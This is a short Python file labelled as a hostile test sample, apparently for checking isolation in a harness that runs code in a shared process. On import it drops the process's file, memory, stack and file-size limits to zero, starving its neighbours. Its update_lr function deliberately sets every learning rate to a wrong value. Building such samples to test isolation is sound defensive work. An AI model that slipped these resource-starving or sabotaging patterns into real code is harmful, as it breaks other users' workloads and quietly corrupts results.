# kind: hostile
# attack: neighbour_state
# about: Lowers its own resource limits, which all its neighbours in the same process then share.

import resource

import torch

HELD = -1.0  # a wrong answer for every input


for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_DATA, resource.RLIMIT_STACK, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(limit, (0, 0))
    except (OSError, ValueError):
        continue


def update_lr(optimizer: torch.optim.Optimizer, lr: float) -> None:
    for group in optimizer.param_groups:
        group["lr"] = HELD
